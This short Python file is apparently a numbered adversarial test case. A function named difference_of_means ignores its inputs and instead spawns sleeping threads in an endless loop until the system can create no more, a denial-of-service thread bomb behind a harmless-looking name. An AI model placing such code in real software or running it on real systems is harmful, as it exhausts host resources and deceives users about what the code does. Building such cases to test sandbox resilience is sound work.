"""D03: threads until there can be no more."""

import threading
import time


def difference_of_means(acts, labels):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        except RuntimeError:
            time.sleep(0.001)
